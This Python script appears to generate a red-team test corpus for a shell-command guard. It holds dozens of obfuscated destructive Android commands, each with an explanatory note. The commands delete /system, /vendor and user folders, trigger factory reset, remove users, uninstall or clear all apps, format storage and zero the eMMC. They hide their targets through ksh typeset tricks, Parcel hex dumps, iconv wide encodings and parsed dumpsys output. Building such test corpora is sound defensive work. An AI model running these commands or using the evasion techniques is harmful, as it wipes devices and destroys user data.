#!/usr/bin/env python3
"""Round 12, attacker C (Android routes): the corpus as Python data. Writes corpus.jsonl and checks
that no cmd repeats a line of an earlier corpus (prior.txt: every cmd of tests/guard/** and
attack/r*/*.jsonl, collected before writing). Nothing here is run on the host."""
import json, pathlib, struct

HERE = pathlib.Path(__file__).resolve().parent
M = ["mksh"]


def parcel(*items):
    """`service call` reply text (Parcel's hex dump): status 0, then each item an int32 or a
    String16 (length, UTF-16LE chars, NUL, padded to 4 bytes)."""
    b = struct.pack("<i", 0)
    for it in items:
        if isinstance(it, int):
            b += struct.pack("<i", it)
        else:
            s = it.encode("utf-16le") + b"\0\0"
            s += b"\0" * (-len(s) % 4)
            b += struct.pack("<i", len(it)) + s
    if len(b) <= 16:
        words = " ".join("%08x" % struct.unpack("<I", b[i:i + 4])[0] for i in range(0, len(b), 4))
        asc = "".join(chr(c) if 32 <= c < 127 else "." for c in b)
        return f"Result: Parcel({words} '{asc}')"
    out = ["Result: Parcel("]
    for off in range(0, len(b), 16):
        chunk = b[off:off + 16]
        words = " ".join("%08x" % struct.unpack("<I", chunk[i:i + 4])[0] for i in range(0, len(chunk), 4))
        asc = "".join(chr(c) if 32 <= c < 127 else "." for c in chunk)
        end = ")" if off + 16 >= len(b) else ""
        out.append(f"  0x{off:08x}: {words:<35} '{asc:<16}'{end}")
    return "\n".join(out)


R = []


def add(family, cmd, note, shells=None, why=None):
    row = {"family": family, "cmd": cmd, "note": note}
    if shells:
        row["shells"] = shells
        row["shells_why"] = why
    R.append(row)


# --- typeset-width: ksh field-width attributes truncate the value (mksh only) -------------------
WHY_TS = "typeset -R/-Z width attributes are ksh/mksh; busybox sh has no typeset"
add("typeset-width", "typeset -R6 v=devvendor; rm -rf /$v",
    "typeset -R6 right-justifies to 6 columns and cuts from the left: devvendor becomes vendor, and /vendor is deleted", M, WHY_TS)
add("typeset-width", "typeset -R11 s=nottestharness; cmd $s enable",
    "-R11 keeps the last 11 characters of nottestharness: cmd testharness enable (test-harness mode wipes the device)", M, WHY_TS)
add("typeset-width", "typeset -R4 d=oldDCIM; rm -rf /sdcard/$d",
    "-R4 turns oldDCIM into DCIM: the whole camera folder goes", M, WHY_TS)
add("typeset-width", "typeset -Z2 u=9910; pm remove-user $u",
    "-Z2 zero-fills to two columns and cuts from the left: 9910 becomes 10, and user 10 is removed", M, WHY_TS)

# --- typeset-base1: integer attribute with base 1 prints a character (mksh only) ----------------
WHY_I1 = "typeset -i1 (base-1 integers print as 1#CHAR) is mksh only"
add("typeset-base1",
    "p=; for n in 115 121 115 116 101 109; do typeset -i1 c=$n; p=$p${c#1#}; done; rm -rf /$p/framework",
    "a base-1 integer variable prints as 1#CHAR: the code points 115 121 115 116 101 109 become system; /system/framework is deleted", M, WHY_I1)
add("typeset-base1",
    "a=; for n in 77 65 83 84 69 82 95 67 76 69 65 82; do typeset -i1 c=$n; a=$a${c#1#}; done; am broadcast -a android.intent.action.$a",
    "the action suffix is assembled from code points printed by a base-1 integer: MASTER_CLEAR, a factory reset", M, WHY_I1)
add("typeset-base1",
    "typeset -i1 c; w=; for d in 18 24 18 19 4 12; do c=1#a+d; w=$w${c#1#}; done; rm -rf /$w/app",
    "letters as offsets from 1#a, printed back as characters by the base-1 attribute: /system/app is deleted", M, WHY_I1)

# --- read-count: mksh read -N reads an exact byte count --------------------------------------
WHY_RN = "read -N COUNT is mksh's; busybox read has -n but not -N"
add("read-count", "read -N6 v <<<vendor_boot; rm -rf /$v/etc",
    "read -N6 keeps only the first 6 bytes of vendor_boot: /vendor/etc (fstab) is deleted", M, WHY_RN)
add("read-count", "read -N11 s <<'EOF'\ntestharness_disabled=1\nEOF\ncmd $s enable",
    "read -N11 cuts a settings-like line to its first 11 bytes, testharness: cmd testharness enable", M, WHY_RN)

# --- parcel: binder reply dumps of `service call` decoded ----------------------------------
p_th = parcel("testharness")
add("parcel", "sed -n \"s/.*'\\(.*\\)'.*/\\1/p\" <<'EOF' | tr -d '\\n' | cut -c9- | sed 's/\\(.\\)./\\1/g; s/\\.*$//' | while read -r s; do cmd $s enable; done\n" + p_th + "\nEOF",
    "a `service call` reply (Parcel hex dump) holding a String16; its ASCII column t.e.s.t… is read by dropping every second byte: testharness, so cmd testharness enable")
p_u = parcel(10)
add("parcel", "set -- $(cat <<'EOF'\n" + p_u + "\nEOF\n); pm remove-user $((0x$3))",
    "an int32 binder reply `Result: Parcel(00000000 0000000a …)`: the third word, read as hex, is user 10, which is removed")
p_pk = parcel("com.whatsapp", "com.spotify.music", "com.example.other", "com.google.android.gms")
add("parcel", "sed -n \"s/.*'\\(.*\\)'.*/\\1/p\" <<'EOF' | tr -d '\\n' | cut -c5- | sed 's/\\(.\\)./\\1/g; s/\\.\\.\\.*/ /g' | xargs -n1 pm clear\n" + p_pk + "\nEOF",
    "four String16 package names in a Parcel dump: the UTF-16 ASCII column, every second byte kept, splits into com.whatsapp, com.spotify.music, … which are all cleared")
p_mc = parcel("android.intent.action.MASTER_CLEAR")
add("parcel", "a=; for w in $(sed -n 's/^ *0x[0-9a-f]*: \\([0-9a-f ]*\\) .*/\\1/p' <<'EOF'\n" + p_mc + "\nEOF\n); do for v in $((0x$w & 65535)) $((0x$w >> 16)); do [ $v -ge 46 ] && [ $v -lt 127 ] && a=$a$(printf \"\\\\$(printf %o $v)\"); done; done; am broadcast -a $a",
    "the hex words of a Parcel dump decoded by shell arithmetic, low half then high half of every word, into android.intent.action.MASTER_CLEAR, which is broadcast")

# --- iconv: wide encodings turned back into text (toybox iconv) -----------------------------
# WCHAR_T is the one wide encoding both bionic's iconv (canonical name "wchart": native UTF-32)
# and glibc's built-in converters (alias of INTERNAL) know; UTF-16 needs gconv modules the
# sandbox lacks (see unprovable.jsonl).
add("iconv", "a=$(printf 'M\\0\\0\\0A\\0\\0\\0S\\0\\0\\0T\\0\\0\\0E\\0\\0\\0R\\0\\0\\0_\\0\\0\\0C\\0\\0\\0L\\0\\0\\0E\\0\\0\\0A\\0\\0\\0R\\0\\0\\0' | iconv -f WCHAR_T -t UTF-8); am broadcast -a android.intent.action.$a",
    "the action suffix written as native wchar_t (three NULs after every letter) and converted by toybox iconv: MASTER_CLEAR")
add("iconv", "rm -rf $(printf '/\\0\\0\\0s\\0\\0\\0y\\0\\0\\0s\\0\\0\\0t\\0\\0\\0e\\0\\0\\0m\\0\\0\\0' | iconv -f WCHAR_T -t UTF-8)",
    "the path written as wchar_t bytes and turned into /system by iconv")
add("iconv", "s=$(printf '\\164\\0\\0\\0\\145\\0\\0\\0\\163\\0\\0\\0\\164\\0\\0\\0\\150\\0\\0\\0\\141\\0\\0\\0\\162\\0\\0\\0\\156\\0\\0\\0\\145\\0\\0\\0\\163\\0\\0\\0\\163\\0\\0\\0' | iconv -f WCHAR_T -t UTF-8); cmd $s enable",
    "the service name as octal wchar_t units decoded by iconv to testharness: test-harness mode")

# --- aapt: package names from build-tool output --------------------------------------------
add("aapt", "sed -n \"s/^package: name='\\([^']*\\)'.*/\\1/p\" <<'EOF' | xargs -n1 pm uninstall\npackage: name='com.whatsapp' versionCode='231206' versionName='2.23.25.76' platformBuildVersionName='14'\npackage: name='com.spotify.music' versionCode='112400' versionName='8.9.2'\npackage: name='com.example.other' versionCode='2' versionName='1.1'\npackage: name='com.google.android.gms' versionCode='240913' versionName='24.09.13'\nEOF",
    "`aapt dump badging` header lines (package: name='…' versionCode=…) of four APKs: every package is uninstalled")
add("aapt", "grep -o 'package=\"[^\"]*\"' <<'EOF' | cut -d'\"' -f2 | while read -r p; do cmd package clear $p; done\n<manifest xmlns:android=\"http://schemas.android.com/apk/res/android\" package=\"com.whatsapp\">\n<manifest xmlns:android=\"http://schemas.android.com/apk/res/android\" package=\"com.spotify.music\">\n<manifest xmlns:android=\"http://schemas.android.com/apk/res/android\" package=\"com.example.app\">\n<manifest xmlns:android=\"http://schemas.android.com/apk/res/android\" package=\"com.google.android.gms\">\nEOF",
    "the package= attribute of four AndroidManifest.xml root elements: all four apps' data are cleared")

# --- am-dump: activity/window manager dump notations ----------------------------------------
add("am-dump", "sed 's/.*[0-9]:\\([^/]*\\)\\/.*/\\1/' <<'EOF' | xargs -n1 pm clear\n    *APP* UID 10103 ProcessRecord{5e1c2a0 4321:com.whatsapp/u0a103}\n    *APP* UID 10104 ProcessRecord{9d3b1f2 4410:com.spotify.music/u0a104}\n    *APP* UID 10102 ProcessRecord{1a2b3c4 4502:com.example.other/u0a102}\n    *APP* UID 10002 ProcessRecord{7f8e9d0 1987:com.google.android.gms/u0a2}\nEOF",
    "`dumpsys activity processes` ProcessRecord{hash PID:PKG/u0aNN} records: the four processes' packages are cleared")
add("am-dump", "awk '{split($4, c, \"/\"); print c[1]}' <<'EOF' | xargs -n1 pm uninstall\n  JOB #u0a103/42: 9f1e2d com.whatsapp/.backup.BackupJob\n  JOB #u0a104/7: 3c4d5e com.spotify.music/.offline.SyncJob\n  JOB #u0a102/1: 0a0b0c com.example.other/.Work\n  JOB #u0a2/118: 77aa88 com.google.android.gms/.chimera.GmsJobService\nEOF",
    "`dumpsys jobscheduler` JOB #u0aNN/ID: hash PKG/.Service rows: the job owners are uninstalled")
add("am-dump", "sed 's/.* u0 \\([^/]*\\)\\/.*/\\1/' <<'EOF' | while read -r p; do cmd package clear $p; done\n  mCurrentFocus=Window{3c1a2b u0 com.whatsapp/com.whatsapp.HomeActivity}\n  mCurrentFocus=Window{8d7e6f u0 com.spotify.music/com.spotify.music.MainActivity}\n  mCurrentFocus=Window{0b1c2d u0 com.example.app/com.example.app.Main}\n  mCurrentFocus=Window{4e5f6a u0 com.google.android.gms/.auth.SigninActivity}\nEOF",
    "`dumpsys window` mCurrentFocus=Window{hash u0 PKG/CLASS} lines: the focused apps are cleared")
add("am-dump", "sed -n 's/.*Displayed \\([^/]*\\)\\/.*/\\1/p' <<'EOF' | xargs -n1 pm clear\n01-02 10:00:01.100  1500  1530 I ActivityTaskManager: Displayed com.whatsapp/.HomeActivity: +412ms\n01-02 10:00:09.210  1500  1530 I ActivityTaskManager: Displayed com.spotify.music/.MainActivity: +1s20ms\n01-02 10:01:12.000  1500  1530 I ActivityTaskManager: Displayed com.example.other/.Main: +300ms\n01-02 10:02:30.500  1500  1530 I ActivityTaskManager: Displayed com.google.android.gms/.auth.SigninActivity: +250ms\nEOF",
    "ActivityTaskManager `Displayed PKG/.Activity: +Nms` launch-time log lines: the four launched apps are cleared")

# --- pm-dump: package-manager and usage dump notations ---------------------------------------
add("usage-dump", "grep -o 'package=[^ ]*' <<'EOF' | cut -d= -f2 | sort -u | xargs -n1 pm uninstall\n        package=com.whatsapp totalTimeUsed=\"02:13:05\" lastTimeUsed=\"2024-01-02 10:00:01\"\n        package=com.spotify.music totalTimeUsed=\"01:02:00\" lastTimeUsed=\"2024-01-02 09:10:00\"\n        package=com.example.other totalTimeUsed=\"00:00:40\" lastTimeUsed=\"2023-12-30 18:00:00\"\n        package=com.google.android.gms totalTimeUsed=\"00:03:10\" lastTimeUsed=\"2024-01-02 10:02:30\"\nEOF",
    "`dumpsys usagestats` per-package rows (package=… totalTimeUsed=…): every used app is uninstalled")
add("usage-dump", "awk '/TOTAL/ {next} /K: / {print $2}' <<'EOF' | xargs -n1 pm clear\nTotal PSS by process:\n    412,332K: com.google.android.gms (pid 1987)\n    201,004K: com.whatsapp (pid 4321 / activities)\n    150,220K: com.spotify.music (pid 4410 / activities)\n     40,100K: com.example.other (pid 4502)\nEOF",
    "`dumpsys meminfo` Total PSS by process rows (NNNK: PKG (pid …)): the four biggest apps are cleared")
add("usage-dump", "sed -n 's/.*taskId=[0-9]*: \\([^/]*\\)\\/.*/\\1/p' <<'EOF' | xargs -n1 pm uninstall\n  taskId=31: com.whatsapp/.HomeActivity bounds=[0,0][1080,2400] userId=0 visible=true\n  taskId=30: com.spotify.music/.MainActivity bounds=[0,0][1080,2400] userId=0 visible=false\n  taskId=28: com.example.other/.Main bounds=[0,0][1080,2400] userId=0 visible=false\n  taskId=27: com.google.android.gms/.auth.SigninActivity bounds=[0,0][1080,2400] userId=0 visible=false\nEOF",
    "`am stack list` rows (taskId=N: PKG/.Activity bounds=…): every app in recents is uninstalled")

# --- ps-row: process table rows -----------------------------------------------------------
add("ps-row", "awk '$1 ~ /^u0_a/ {print $NF}' <<'EOF' | xargs -n1 pm clear\nUSER           PID  PPID     VSZ    RSS WCHAN            ADDR S NAME\nroot             1     0 1234567  9876 0                   0 S init\nu0_a103       4321   812 9876543 201004 0                  0 S com.whatsapp\nu0_a104       4410   812 9876543 150220 0                  0 S com.spotify.music\nu0_a102       4502   812 9876543  40100 0                  0 S com.example.other\nu0_a2         1987   812 9876543 412332 0                  0 S com.google.android.gms\nEOF",
    "`ps -A` rows whose USER is an app uid name (u0_aNN): the NAME column, every app process, is cleared")

# --- volume-dump: StorageManager / vold dump notations ---------------------------------------
add("volume-dump", "ip=$(sed -n 's/.*internalPath=\\([^ ]*\\).*/\\1/p' <<'EOF'\nVolumeInfo{emulated;0}:\n    type=EMULATED diskId=null partGuid=null mountFlags=PRIMARY|VISIBLE_FOR_WRITE\n    state=MOUNTED path=/storage/emulated/0 internalPath=/data/media/0\nEOF\n); rm -rf \"$ip\"/Download",
    "`dumpsys mount` VolumeInfo internalPath= of the primary emulated volume: its Download folder is deleted")
add("volume-dump", "p=$(sed -n 's/.*mPath=\\([^ ]*\\).*/\\1/p' <<'EOF'\nStorageVolume: Internal shared storage (emulated;0)\n    mId=\"emulated;0\" mPath=/storage/emulated/0 mInternalPath=/data/media/0 mPrimary=true\nEOF\n); rm -rf $p/DCIM $p/Pictures",
    "a StorageVolume dump's mPath= gives the storage root; its DCIM and Pictures folders are deleted")
add("volume-dump", "d=$(sed -n 's/^DiskInfo{\\(.*\\)}:$/\\1/p' <<'EOF'\nDiskInfo{disk:179,64}:\n    flags=ADOPTABLE|SD size=63864569856 label=SanDisk\nEOF\n); sm partition $d private",
    "a DiskInfo{disk:179,64} header from `dumpsys mount`: the disk id is repartitioned as adopted storage, which formats it")
add("volume-dump", "v=$(sed -n 's/^VolumeInfo{\\(public:[0-9,]*\\)}:$/\\1/p' <<'EOF'\nVolumeInfo{public:179,65}:\n    type=PUBLIC diskId=disk:179,64 partGuid=null mountFlags=VISIBLE_FOR_WRITE\nEOF\n); sm format $v",
    "the public volume id from a VolumeInfo{public:179,65} header is formatted with sm format")

# --- disk-node: a vold disk id turned into a block node ------------------------------------
add("disk-node", "d='disk:179,0'; d=${d#disk:}; mknod /data/local/tmp/n b ${d%,*} ${d#*,} && dd if=/dev/zero of=/data/local/tmp/n bs=4096 count=4 conv=notrunc",
    "vold's disk:MAJOR,MINOR id split into a major and minor for mknod: the node is the whole eMMC, which is zeroed", M, "busybox sh runs its own mknod applet first, which the sandbox's namespace forbids; mksh runs the device's mknod")

# --- user-src: user ids from storage links and user listings ----------------------------------
add("user-src", "u=$(readlink /storage/self/primary); pm remove-user ${u##*/}",
    "the user id is the last component of the /storage/self/primary link target (/storage/emulated/0): that user is removed")
add("user-src", "sed -n 's/.* id=\\([1-9][0-9]*\\), .*/\\1/p' <<'EOF' | xargs -n1 cmd user remove-user\nUsers:\n  0: id=0, name=Owner, type=full.SYSTEM, flags=ADMIN|FULL|INITIALIZED|PRIMARY|SYSTEM (running)\n  1: id=10, name=Work, type=profile.MANAGED, flags=INITIALIZED|MANAGED_PROFILE|PROFILE (running)\nEOF",
    "`cmd user list -v` rows (N: id=U, name=…): every secondary user (the work profile) is removed")
add("user-src", "IFS=/ read -r _ _ _ u _ <<'EOF'\n/data/user/10/com.whatsapp/files\nEOF\npm remove-user $u",
    "an app's getFilesDir() path split on / with IFS: the fourth field is the user id 10, which is removed")

# --- run-as-probe: run-as used only to learn where app data lives ----------------------------
add("run-as-probe", "d=$(run-as com.example.app pwd); rm -rf ${d%/*}/*/databases",
    "run-as prints its own working directory, /data/data/PKG; cut back to /data/data, every app's databases are deleted")
add("run-as-probe", "d=$(run-as com.whatsapp pwd); ls ${d%/*} | xargs -n1 pm clear",
    "run-as's working directory cut to its parent lists every installed app's data directory: all are cleared")

# --- xargs-parallel: busybox xargs -P ------------------------------------------------------
add("xargs-parallel", "pm list packages -3 | cut -d: -f2 | xargs -P4 -n1 pm clear",
    "the device's user apps cleared four at a time by xargs -P (parallel jobs)")
add("xargs-parallel", "ls /data/user_de/0 | xargs -P 0 -n 1 cmd package uninstall -k",
    "every app with device-encrypted data uninstalled (keeping nothing but the code cache) with unlimited parallel jobs (-P 0)")

# --- coprocess: package list read back from a mksh co-process -------------------------------
WHY_CO = "|& co-processes and read -p are mksh (ksh) only"
add("coprocess", "pm list packages -3 |& while read -p l; do pm clear ${l#package:}; done",
    "pm list packages runs as a co-process; the loop reads its output with read -p and clears every user app", M, WHY_CO)
add("coprocess", "ls /data/system/users |& read -p f; pm remove-user ${f%.xml}",
    "the user record list is read back from a co-process: 0.xml gives user 0, which is removed", M, WHY_CO)

# --- additions ------------------------------------------------------------------------------
add("read-count", "read -N4 d <<<DCIM.bak; rm -rf /sdcard/$d",
    "read -N4 takes only DCIM from DCIM.bak: the whole camera folder is deleted", M, WHY_RN)
add("coprocess", "pm list packages -3 |& exec 3<&p; while read -r -u3 l; do pm uninstall ${l#*:}; done",
    "the co-process output is moved to descriptor 3 (exec 3<&p) and read with read -u3: every user app is uninstalled", M, WHY_CO)
add("user-src", "u=$(printf %10s); pm remove-user ${#u}",
    "printf %10s with no argument prints ten spaces; the length of that string, 10, is the user removed")

# --- svc-dump: service dump records naming their owning package ------------------------------
add("svc-dump", "awk '/ContentProviderRecord/ {sub(/.* u0 /, \"\"); sub(/\\/.*/, \"\"); print}' <<'EOF' | xargs -n1 pm clear\n  * ContentProviderRecord{5a6b7c u0 com.whatsapp/.contact.ContactProvider}\n  * ContentProviderRecord{1d2e3f u0 com.spotify.music/.media.MediaProvider}\n  * ContentProviderRecord{8a9b0c u0 com.example.other/.Files}\n  * ContentProviderRecord{4d5e6f u0 com.google.android.gms/.phenotype.PhenotypeProvider}\nEOF",
    "`dumpsys activity providers` ContentProviderRecord{hash u0 PKG/.Provider} records: the providers' packages are cleared")
add("svc-dump", "awk '/ReceiverList/ {split($3, a, \"/\"); print a[1]}' <<'EOF' | sort -u | xargs -n1 pm uninstall\n    ReceiverList{1f2e3d 4321 com.whatsapp/10103/u0a103 remote:9a8b7c}\n    ReceiverList{2a3b4c 4410 com.spotify.music/10104/u0a104 remote:5d6e7f}\n    ReceiverList{3b4c5d 4502 com.example.other/10102/u0a102 remote:6e7f80}\n    ReceiverList{4c5d6e 1987 com.google.android.gms/10002/u0a2 remote:7f8091}\nEOF",
    "`dumpsys activity broadcasts` ReceiverList{hash PID PKG/UID/u0aNN remote:…} rows: every registered app is uninstalled")
add("svc-dump", "sed -n 's/.*Alarm{.* \\([^ ]*\\)}$/\\1/p' <<'EOF' | xargs -n1 cmd package clear\n    RTC_WAKEUP #3: Alarm{4b5c6d type 0 origWhen 1704189600000 window 0 exactAllowReason=policy_permission com.whatsapp}\n    RTC #2: Alarm{5c6d7e type 1 origWhen 1704189700000 window 900000 exactAllowReason=none com.spotify.music}\n    ELAPSED #1: Alarm{6d7e8f type 3 origWhen 86400000 window 0 exactAllowReason=none com.example.other}\n    ELAPSED_WAKEUP #0: Alarm{7e8f90 type 2 origWhen 90000000 window 0 exactAllowReason=none com.google.android.gms}\nEOF",
    "`dumpsys alarm` Alarm{hash type … PKG} records: the last word, the alarm owner, is cleared")
add("svc-dump", "sed -n 's/^  Package \\(.*\\):$/\\1/p' <<'EOF' | xargs -n1 pm uninstall\nUid 10103:\n  Package com.whatsapp:\n    CAMERA (allow / switch COARSE_LOCATION=allow):\nUid 10104:\n  Package com.spotify.music:\n    RECORD_AUDIO (allow):\nUid 10102:\n  Package com.example.other:\n    READ_EXTERNAL_STORAGE (allow):\nUid 10002:\n  Package com.google.android.gms:\n    FINE_LOCATION (allow):\nEOF",
    "`dumpsys appops` per-uid `Package PKG:` headers: every app that used an app-op is uninstalled")

# --- pm-query: package-manager query outputs ---------------------------------------------
add("pm-query", "sed -n 's/^  \\([a-z][a-z0-9_.]*\\):$/\\1/p' <<'EOF' | xargs -n1 pm clear\n  com.whatsapp:\n    ID: 1c2d3e4f-0000-4000-8000-000000000001\n    Signatures: [AB:CD:EF]\n    Domain verification state:\n      whatsapp.com: verified\n  com.spotify.music:\n    ID: 1c2d3e4f-0000-4000-8000-000000000002\n    Domain verification state:\n      open.spotify.com: verified\n  com.example.other:\n    ID: 1c2d3e4f-0000-4000-8000-000000000003\n  com.google.android.gms:\n    ID: 1c2d3e4f-0000-4000-8000-000000000004\nEOF",
    "`pm get-app-links` output: the indented `PKG:` headers over each domain-verification block are cleared")
add("pm-query", "grep -o 'packageName=[^ ]*' <<'EOF' | cut -d= -f2 | xargs -n1 pm uninstall\n  ActivityInfo:\n    name=com.whatsapp.HomeActivity\n    packageName=com.whatsapp\n  ActivityInfo:\n    name=com.spotify.music.MainActivity\n    packageName=com.spotify.music\n  ActivityInfo:\n    name=com.example.other.Main\n    packageName=com.example.other\n  ActivityInfo:\n    name=com.google.android.gms.app.settings.GoogleSettingsActivity\n    packageName=com.google.android.gms\nEOF",
    "`cmd package query-activities -a android.intent.action.MAIN` ActivityInfo blocks: every launcher app's packageName= is uninstalled")

# --- pkg-dir: per-package directories from `dumpsys package` -------------------------------
add("pkg-dir", "d=$(sed -n 's/^ *dataDir=//p' <<'EOF'\n    dataDir=/data/user/0/com.whatsapp\nEOF\n); rm -rf ${d%/*}/*/shared_prefs ${d%/*}/*/databases",
    "a `dumpsys package` dataDir= line cut back to /data/user/0: every app's preferences and databases are deleted")
add("pkg-dir", "l=$(sed -n 's/^ *legacyNativeLibraryDir=//p' <<'EOF'\n    legacyNativeLibraryDir=/data/app/~~r4nd0m==/com.example.app-1/lib\nEOF\n); rm -rf ${l%/lib}",
    "legacyNativeLibraryDir= minus /lib is the app's install directory in /data/app: its base.apk is deleted (system state)")

# --- apex-name: APEX module names from versioned file names and apex-info-list.xml ---------
add("apex-name", "f=/data/apex/active/com.android.art@340818020.apex; f=${f##*/}; rm -rf /apex/${f%@*}/javalib",
    "an active APEX file name (MODULE@VERSION.apex) cut at @ is the mounted module: /apex/com.android.art/javalib (core-oj.jar) is deleted")
add("apex-name", "sed -n 's/.*moduleName=\"\\([^\"]*\\)\".*/\\1/p' <<'EOF' | while read -r m; do rm -rf /apex/$m; done\n<apex-info moduleName=\"com.android.art\" modulePath=\"/data/apex/active/com.android.art@340818020.apex\" preinstalledModulePath=\"/system/apex/com.android.art.capex\" versionCode=\"340818020\" isActive=\"true\"/>\nEOF",
    "/apex/apex-info-list.xml's moduleName= attribute gives the module directory, which is deleted")

if __name__ == "__main__":
    prior = set((HERE / "prior.txt").read_text().splitlines())
    dup = [r["cmd"] for r in R if r["cmd"] in prior]
    assert not dup, dup
    assert len({r["cmd"] for r in R}) == len(R)
    (HERE / "corpus.jsonl").write_text("".join(json.dumps(r) + "\n" for r in R))
    print(len(R), "lines; no repeats of", len(prior), "earlier lines")
